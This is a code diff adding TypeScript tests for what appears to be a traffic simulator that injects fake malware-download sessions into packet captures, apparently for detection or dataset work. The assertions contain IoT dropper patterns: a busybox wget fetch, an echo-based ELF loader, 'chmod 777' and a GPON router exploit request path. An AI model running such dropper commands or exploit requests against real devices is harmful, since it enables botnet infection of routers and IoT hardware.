@@ -44,3 +44,30 @@ describe('tuned injections', () => {
     expect(plain.r.injected[0].detail.periodS).not.toBe(300);
   });
 });
+
+describe('malware_download’s dropper commands (tune keys only)', () => {
+  const elf: InjectRequest = { behaviour: 'malware_download', variant: 'elf', kind: null };
+  const capture = (name: string): Buffer => readFileSync(join(dir, `${name}.pcap`));
+
+  it('are never drawn: without `command` the home is the one without tune', () => {
+    const plain = home('mw-plain', [elf]);
+    expect(home('mw-inert', [{ ...elf, tune: { unused: 1 } }]).sha).toBe(plain.sha);
+    expect(capture('mw-plain').includes('chmod 777')).toBe(false);
+    expect(plain.r.injected[0].detail.command).toBeUndefined();
+  });
+
+  it('send the command, then the download or not', () => {
+    const withDownload = home('mw-telnet', [{ ...elf, tune: { command: 1 } }]);
+    const d = withDownload.r.injected[0].detail;
+    expect(d).toMatchObject({ command: 'telnet-wget', download: true });
+    const pcap = capture('mw-telnet');
+    expect(pcap.includes(`/bin/busybox wget ${String(d.url)} -O .w`)).toBe(true);
+    expect(pcap.includes(`GET ${new URL(String(d.url)).pathname} HTTP/1.1`)).toBe(true);
+    const echo = home('mw-echo', [{ ...elf, tune: { command: 2 } }]);
+    expect(echo.r.injected[0].detail).toMatchObject({ command: 'echo-loader', download: false });
+    expect(capture('mw-echo').includes("echo -ne '\\x7f\\x45\\x4c\\x46")).toBe(true);
+    const gpon = home('mw-gpon', [{ ...elf, tune: { command: 4, download: 0 } }]);
+    expect(gpon.r.injected[0].detail).toMatchObject({ command: 'http-body', download: false });
+    expect(capture('mw-gpon').includes('POST /GponForm/diag_Form?images/')).toBe(true);
+  });
+});
